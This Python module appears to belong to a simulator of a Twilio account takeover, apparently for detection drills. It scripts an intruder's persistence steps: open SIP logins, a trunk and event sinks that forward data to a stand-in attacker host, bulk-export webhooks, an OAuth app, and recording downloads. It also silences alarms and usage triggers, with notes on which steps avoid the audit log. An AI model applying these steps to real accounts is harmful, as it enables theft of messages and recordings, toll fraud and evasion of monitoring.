"""What a thief leaves in an account that outlives every token: SIP logins, apps, sinks, functions, hooks."""

import json
from dataclasses import dataclass, replace
from datetime import timedelta

from ..simulator.sip_calls import call_over_sip
from .destinations import DESTINATIONS
from .hands import Hands

HOST = "relay.inbox-sync.example"
"""Where everything leads that he sets up."""
_EVENTS = "https://events.twilio.com/v1"
_EXPORTS = "https://bulkexports.twilio.com/v1/Exports"
_IAM_APPS = "https://iam.twilio.com/v1/Account/OAuthApps"
_SERVERLESS = "https://serverless.twilio.com/v1/Services"
_FLOWS = "https://studio.twilio.com/v2/Flows"
_SAFE = "https://accounts.twilio.com/v1/SafeList/Numbers"
_ALARMS = "https://monitor.twilio.com/v2/Alarms"
_TRUNKS = "https://trunking.twilio.com/v1/Trunks"
_PASSWORD = "".join(("Drill", "Only", "2026", "Login"))


@dataclass(frozen=True)
class OpensSip:
    """A SIP domain with a login of his own, and an address list that lets everybody in."""

    username: str = "trunk-backup"
    wide: bool = True

    def __call__(self, hands: Hands) -> None:
        sip = f"{hands.of('')}/SIP"
        made = hands.ask("POST", f"{sip}/CredentialLists.json", {"FriendlyName": "pbx"})
        if not made.ok:
            return
        logins = made.body["sid"]
        form = {"Username": self.username, "Password": _PASSWORD}
        hands.ask("POST", f"{sip}/CredentialLists/{logins}/Credentials.json", form)
        name = f"pbx-{hands.chance.randrange(10**6)}.sip.twilio.com"
        domain = hands.ask(
            "POST", f"{sip}/Domains.json", {"DomainName": name, "VoiceUrl": f"https://{HOST}/dial"}
        )
        if domain.ok:
            mappings = f"{sip}/Domains/{domain.body['sid']}/Auth/Calls"
            hands.ask("POST", f"{mappings}/CredentialListMappings.json", {"CredentialListSid": logins})
        if self.wide:
            listed = hands.ask("POST", f"{sip}/IpAccessControlLists.json", {"FriendlyName": "any"})
            if listed.ok:
                anywhere = {"FriendlyName": "any", "IpAddress": "0.0.0.0", "CidrPrefixLength": "1"}  # noqa: S104
                hands.ask(
                    "POST", f"{sip}/IpAccessControlLists/{listed.body['sid']}/IpAddresses.json", anywhere
                )
        hands.made["sip user"] = self.username


@dataclass(frozen=True)
class CallsOverSip:
    """`left` calls with his SIP login, one each `every`: no request of the API, so no trace of one."""

    left: int
    every: timedelta
    to: str
    seconds: int
    index: int = 0

    def __call__(self, hands: Hands) -> None:
        account = hands.world.accounts[hands.account_sid]
        to = DESTINATIONS[self.to].number(self.index, hands.chance)
        user = hands.made.get("sip user", "")
        call_over_sip(hands.world, account, "thief", to, self.seconds, username=user, address=hands.address)
        if self.left > 1:
            hands.later(self.every, replace(self, left=self.left - 1, index=self.index + 1))


@dataclass(frozen=True)
class AddsTrunk:
    """A SIP trunk whose calls go to his own exchange."""

    def __call__(self, hands: Hands) -> None:
        made = hands.ask("POST", _TRUNKS, {"FriendlyName": "failover"}, own=True)
        if made.ok:
            form = {
                "FriendlyName": "edge",
                "SipUrl": f"sip:edge@{HOST}",
                "Weight": "1",
                "Priority": "1",
                "Enabled": "true",
            }
            hands.ask("POST", f"{_TRUNKS}/{made.body['sid']}/OriginationUrls", form, own=True)


@dataclass(frozen=True)
class AddsSink:
    """A live copy of every message event to his own host. Leaves no event in the audit log."""

    def __call__(self, hands: Hands) -> None:
        configuration = json.dumps({"destination": f"https://{HOST}/events", "method": "POST"})
        form = {"Description": "monitoring", "SinkType": "webhook", "SinkConfiguration": configuration}
        sink = hands.ask("POST", f"{_EVENTS}/Sinks", form, own=True)
        if sink.ok:
            kinds = json.dumps({"type": "com.twilio.messaging.inbound-message.received", "schema_version": 1})
            form = {"Description": "monitoring", "SinkSid": sink.body["sid"], "Types": kinds}
            hands.ask("POST", f"{_EVENTS}/Subscriptions", form, own=True)


@dataclass(frozen=True)
class ExportsData:
    """All messages and calls of the last weeks, and a hook for those of every day to come."""

    days: int = 20
    hook: bool = True

    def __call__(self, hands: Hands) -> None:
        last = hands.world.now.date() - timedelta(days=3)
        first = last - timedelta(days=self.days)
        for kind in ("Messages", "Calls"):
            form = {
                "StartDay": first.isoformat(),
                "EndDay": last.isoformat(),
                "FriendlyName": "report",
                "WebhookUrl": f"https://{HOST}/done",
                "WebhookMethod": "POST",
            }
            hands.ask("POST", f"{_EXPORTS}/{kind}/Jobs", form, own=True)
        if self.hook:
            form = {"Enabled": "true", "WebhookUrl": f"https://{HOST}/daily", "WebhookMethod": "POST"}
            hands.ask("POST", f"{_EXPORTS}/Messages/Configuration", form, own=True)
        hands.later(timedelta(minutes=20), DownloadsDays(first.isoformat(), self.days))


@dataclass(frozen=True)
class DownloadsDays:
    first: str
    days: int

    def __call__(self, hands: Hands) -> None:
        listed = hands.ask("GET", f"{_EXPORTS}/Messages/Days?PageSize=100", own=True)
        for row in listed.body.get("days", [])[: self.days]:
            hands.ask("GET", f"{_EXPORTS}/Messages/Days/{row['day']}", own=True)


@dataclass(frozen=True)
class ListensToRecordings:
    """Fetch `left` recordings, one each `every`."""

    left: int
    every: timedelta

    def __call__(self, hands: Hands) -> None:
        rows = hands.ask("GET", f"{hands.of('')}/Recordings.json?PageSize=500").body.get("recordings", [])
        for number, row in enumerate(rows[: self.left]):
            hands.later(self.every * number, ListensTo(row["sid"]))


@dataclass(frozen=True)
class ListensTo:
    sid: str

    def __call__(self, hands: Hands) -> None:
        hands.ask("GET", f"{hands.of('')}/Recordings/{self.sid}.mp3")


@dataclass(frozen=True)
class AddsOAuthApp:
    """An app that opens the account by itself. Leaves no event in the audit log."""

    name: str = "data-sync"

    def __call__(self, hands: Hands) -> None:
        document = {
            "type": "Client Credential",
            "friendly_name": self.name,
            "description": "sync",
            "policy": {"allow": ["/twilio/*"], "deny": []},
        }
        made = hands.ask_json("POST", _IAM_APPS, document)
        if made.ok:
            hands.made[self.name] = str(made.body["sid"])


@dataclass(frozen=True)
class CreatesFunction:
    """Code of his own that runs inside the account, with the account's own credential."""

    def __call__(self, hands: Hands) -> None:
        name = f"helpers-{hands.chance.randrange(10**4)}"
        form = {"UniqueName": name, "FriendlyName": name, "IncludeCredentials": "true"}
        made = hands.ask("POST", _SERVERLESS, form, own=True)
        if made.ok:
            url = f"{_SERVERLESS}/{made.body['sid']}/Functions"
            hands.ask("POST", url, {"FriendlyName": "notify"}, own=True)


@dataclass(frozen=True)
class CreatesFlow:
    """A Studio flow that calls out and posts to his host."""

    def __call__(self, hands: Hands) -> None:
        widget = {
            "name": "post",
            "type": "make-http-request",
            "transitions": [],
            "properties": {"method": "POST", "url": f"https://{HOST}/flow"},
        }
        definition = {
            "description": "relay",
            "states": [{"name": "Trigger", "type": "trigger", "transitions": [], "properties": {}}, widget],
            "initial_state": "Trigger",
            "flags": {"allow_concurrent_calls": True},
        }
        form = {"FriendlyName": "relay", "Status": "published", "Definition": json.dumps(definition)}
        hands.ask("POST", _FLOWS, form, own=True)


@dataclass(frozen=True)
class VerifiesCallerId:
    number: str = "+12025550177"

    def __call__(self, hands: Hands) -> None:
        hands.ask("POST", f"{hands.of('')}/OutgoingCallerIds.json", {"PhoneNumber": self.number})


@dataclass(frozen=True)
class AddsSafeNumber:
    """Numbers that Twilio's own protection will let through. Leaves no event in the audit log."""

    to: str

    def __call__(self, hands: Hands) -> None:
        number = DESTINATIONS[self.to].number(0, hands.chance)
        hands.ask("POST", _SAFE, {"PhoneNumber": number}, own=True)


@dataclass(frozen=True)
class SilencesAlarms:
    """Switch every alarm of the account off. Leaves no event in the audit log."""

    def __call__(self, hands: Hands) -> None:
        rows = hands.ask("GET", _ALARMS, own=True).body.get("alarms", [])
        for row in rows:
            hands.ask_json("PUT", f"{_ALARMS}/{row['alertConfigSid']}/status", {"enabled": False})


@dataclass(frozen=True)
class RaisesTriggers:
    """Set every usage trigger so high that it never fires, and send its notice to himself."""

    def __call__(self, hands: Hands) -> None:
        url = f"{hands.of('')}/Usage/Triggers"
        for row in hands.ask("GET", f"{url}.json").body.get("usage_triggers", []):
            hands.ask("POST", f"{url}/{row['sid']}.json", {"CallbackUrl": f"https://{HOST}/quiet"})


@dataclass(frozen=True)
class LowersVerifyGuard:
    """In the Console: open a country for Verify."""

    country: str = "LV"

    def __call__(self, hands: Hands) -> None:
        hands.console("set-verify-geo", user_sid=hands.user_sid, country=self.country, enabled="true")
